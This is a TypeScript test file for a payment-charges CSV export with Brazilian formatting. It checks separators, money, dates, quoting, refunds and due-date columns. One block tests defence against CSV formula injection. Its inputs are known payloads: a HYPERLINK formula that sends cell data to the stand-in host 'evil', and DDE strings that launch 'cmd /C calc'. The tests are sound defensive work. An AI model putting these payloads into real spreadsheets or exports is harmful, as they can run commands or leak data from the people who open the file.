import { describe, expect, it } from 'vitest';
import {
  chargesCsv,
  csvCell,
  csvDateTime,
  csvMoney,
  type CsvCharge,
} from '../../../../shared/domain/charges-csv';
import { itMaps } from '../../rule-table';

const at = new Date(2026, 10, 21, 9, 5, 7).getTime();
const base: CsvCharge = {
  externalId: 'blc_a',
  createdAt: at,
  amountCents: 123456,
  status: 'PAID',
  flags: [],
  demo: false,
};
const labels = {
  status: (s: string) =>
    ({
      PAID: 'Pago',
      EXPIRED: 'Expirado',
      FAILED: 'Falhou',
      PAID_DIFFERENT_AMOUNT: 'Pago com valor diferente',
    })[s] ?? s,
  yes: 'Sim',
  no: 'Não',
};
const lines = (csv: string) => csv.slice(1).split('\r\n');

describe('CSV export (pt-BR spreadsheet conventions)', () => {
  it('BOM, `;`, decimal comma; charge id, PSP id, date/time, amount, fee, net, status in words, late flag, masked document', () => {
    const csv = chargesCsv(
      [
        {
          ...base,
          pspTransactionId: 'psp-1',
          feeCents: 1222,
          payerName: 'Ana',
          payerDocumentMasked: '***.456.789-**',
        },
        {
          ...base,
          externalId: 'blc_b',
          amountCents: 5,
          status: 'EXPIRED',
          flags: ['LATE_PAYMENT'],
        },
        { ...base, externalId: 'blc_c', amountCents: 700, status: 'FAILED' },
        {
          ...base,
          externalId: 'blc_d',
          amountCents: 5678,
          receivedCents: 1,
          status: 'PAID_DIFFERENT_AMOUNT',
        },
        {
          ...base,
          externalId: 'blc_e',
          amountCents: 1000,
          receivedCents: 1500,
          feeCents: 15,
          status: 'PAID_DIFFERENT_AMOUNT',
        },
      ],
      labels,
    );
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const l = lines(csv);
    expect(l[0]).toBe(
      'ID da cobrança;ID no PSP;Data/hora;Valor (R$);Recebido (R$);Taxa (R$);Líquido (R$);Situação;Pagamento tardio;DEMO;Descrição;Pagador;Documento;Envios',
    );
    expect(l[1]).toBe(
      'blc_a;psp-1;21/11/2026 09:05:07;1234,56;1234,56;12,22;1222,34;Pago;Não;Não;;Ana;***.456.789-**;',
    );
    // A late payment is money received: it has a net, and the flag says Sim.
    expect(l[2]).toBe('blc_b;;21/11/2026 09:05:07;0,05;0,05;;0,05;Expirado;Sim;Não;;;;');
    // Not received: nothing received, no net.
    expect(l[3]).toBe('blc_c;;21/11/2026 09:05:07;7,00;;;;Falhou;Não;Não;;;;');
    // Paid with another amount: charged vs received, the net from what arrived.
    expect(l[4]).toBe(
      'blc_d;;21/11/2026 09:05:07;56,78;0,01;;0,01;Pago com valor diferente;Não;Não;;;;',
    );
    expect(l[5]).toBe(
      'blc_e;;21/11/2026 09:05:07;10,00;15,00;0,15;14,85;Pago com valor diferente;Não;Não;;;;',
    );
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('Envios: each send of the charge (how, to whom, when), oldest first; a cell that cannot run', () => {
    const sent = new Date(2026, 10, 21, 10, 0, 0).getTime();
    const csv = chargesCsv(
      [
        {
          ...base,
          status: 'PENDING',
          shares: [
            { via: 'whatsapp', to: '+5511987654321', at: sent },
            { via: 'email', to: 'ana@example.com', at: sent + 60_000 },
            { via: 'whatsapp', at: sent + 120_000 },
          ],
        },
      ],
      labels,
    );
    const row = lines(csv)[1]!;
    expect(
      row.endsWith(
        ';WhatsApp para +5511987654321 em 21/11/2026 10:00:00 | E-mail para ana@example.com em 21/11/2026 10:01:00 | WhatsApp em 21/11/2026 10:02:00',
      ),
    ).toBe(true);
  });

  it('quotes cells holding ; quotes or line breaks', () => {
    expect(csvCell('Ana; "Aninha"')).toBe('"Ana; ""Aninha"""');
    expect(csvCell('Pão\nleite')).toBe('"Pão\nleite"');
    expect(csvCell('Pão e café')).toBe('Pão e café');
  });
});

describe('CSV injection (OWASP): a cell a spreadsheet would run as a formula is made text', () => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("http://evil/?"&A1,"clique")', `"'=HYPERLINK(""http://evil/?""&A1,""clique"")"`],
    ['+5511912345678', `"'+5511912345678"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ];
  it.each(cases)('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('in every text column of the export: description, payer name, ids', () => {
    const csv = chargesCsv(
      [
        {
          ...base,
          description: '=HYPERLINK("http://evil")',
          payerName: '@cmd',
          pspTransactionId: '-1+1',
        },
      ],
      labels,
    );
    const row = lines(csv)[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil"")"`);
    expect(row).toContain(`"'@cmd"`);
    expect(row).toContain(`"'-1+1"`);
    // No cell of the row begins with a formula character once split on the separator.
    for (const cell of row.split(';')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

// The Histórico export, cell by cell, as a spreadsheet shows it to the owner.
describe('money in the export', () => {
  itMaps('decimal comma, two decimals, no thousands separator', csvMoney, [
    [0, '0,00'],
    [7, '0,07'],
    [1_234_567_89, '1234567,89'],
  ]);

  itMaps('a negative amount (a net below zero) keeps its sign', csvMoney, [
    [-5, '-0,05'],
    [-1234, '-12,34'],
  ]);
});

describe('dates in the export', () => {
  it('dd/mm/aaaa hh:mm:ss, local time, two digits each', () => {
    expect(csvDateTime(new Date(2026, 0, 5, 8, 3, 9).getTime())).toBe('05/01/2026 08:03:09');
    expect(csvDateTime(new Date(2026, 11, 31, 23, 59, 58).getTime())).toBe('31/12/2026 23:59:58');
  });
});

describe('cells', () => {
  itMaps('a formula character inside a cell (not at its start) is plain text', csvCell, [
    ['Pão=3', 'Pão=3'],
    ['a+b-c@d', 'a+b-c@d'],
  ]);

  itMaps('a quote or a carriage return anywhere quotes the cell', csvCell, [
    ['5" tela', '"5"" tela"'],
    ['Pão\rleite', '"Pão\rleite"'],
  ]);

  itMaps(
    'a negative amount (a fee above what arrived) stays a number a spreadsheet adds up',
    csvCell,
    [
      [csvMoney(-500), '-5,00'],
      ['-5,00+cmd', `"'-5,00+cmd"`],
      ['-5', '-5'],
    ],
  );

  it('an empty cell stays empty', () => {
    expect(csvCell('')).toBe('');
  });
});

describe('rows', () => {
  const row: CsvCharge = {
    externalId: 'blc_x',
    createdAt: new Date(2026, 10, 21, 9, 5, 7).getTime(),
    amountCents: 1000,
    status: 'FAILED',
    flags: [],
    demo: true,
    feeCents: 30,
    description: 'Café',
  };
  const labels = { status: (s: string) => `<${s}>`, yes: 'Y', no: 'N' };

  it('a DEMO charge says so; a fee the PSP charged shows even when nothing was received', () => {
    expect(chargesCsv([row], labels).split('\r\n')[1]).toBe(
      'blc_x;;21/11/2026 09:05:07;10,00;;0,30;;<FAILED>;N;Y;Café;;;',
    );
  });

  it('received, fee and net: the net is what arrived less the fee', () => {
    expect(
      chargesCsv([{ ...row, status: 'PAID', demo: false, feeCents: 15 }], labels).split('\r\n')[1],
    ).toBe('blc_x;;21/11/2026 09:05:07;10,00;10,00;0,15;9,85;<PAID>;N;N;Café;;;');
  });

  it('no charges: the header alone', () => {
    expect(chargesCsv([], labels).split('\r\n')).toHaveLength(2);
  });
});

describe('the net ("Líquido") after devoluções', () => {
  it('subtracts what went back to the payer, as the Histórico row does', () => {
    const [, row] = lines(
      chargesCsv([{ ...base, amountCents: 5000, feeCents: 50, refundedCents: 2000 }], labels),
    );
    // Valor 50,00; Recebido 50,00; Taxa 0,50; Líquido 50,00 − 0,50 − 20,00.
    expect(row!.split(';').slice(3, 7)).toEqual(['50,00', '50,00', '0,50', '29,50']);
  });
});

describe('Com vencimento in the CSV', () => {
  const dueTerms = {
    dueDate: '2026-12-10',
    daysAfterDue: 30,
    finePct: 200,
    interestPctMonth: 100,
    discountCents: 0,
  };
  it('a last column `Vencimento` when the export holds a charge with a due date; its terms in words', () => {
    const rows = lines(
      chargesCsv([base, { ...base, externalId: 'blc_v', dueTerms }], {
        ...labels,
        dueTerms: (t) => `${t.dueDate} multa ${t.finePct / 100}%`,
      }),
    );
    expect(rows[0]!.split(';').at(-1)).toBe('Vencimento');
    expect(rows[1]!.split(';').at(-1)).toBe('');
    expect(rows[2]!.split(';').at(-1)).toBe('2026-12-10 multa 2%');
  });
  it('without one, the file is as it always was (the due date alone by default)', () => {
    expect(
      lines(chargesCsv([base], labels))[0]!
        .split(';')
        .at(-1),
    ).toBe('Envios');
    const one = lines(chargesCsv([{ ...base, dueTerms }], labels));
    expect(one[1]!.split(';').at(-1)).toBe('10/12/2026');
  });
});
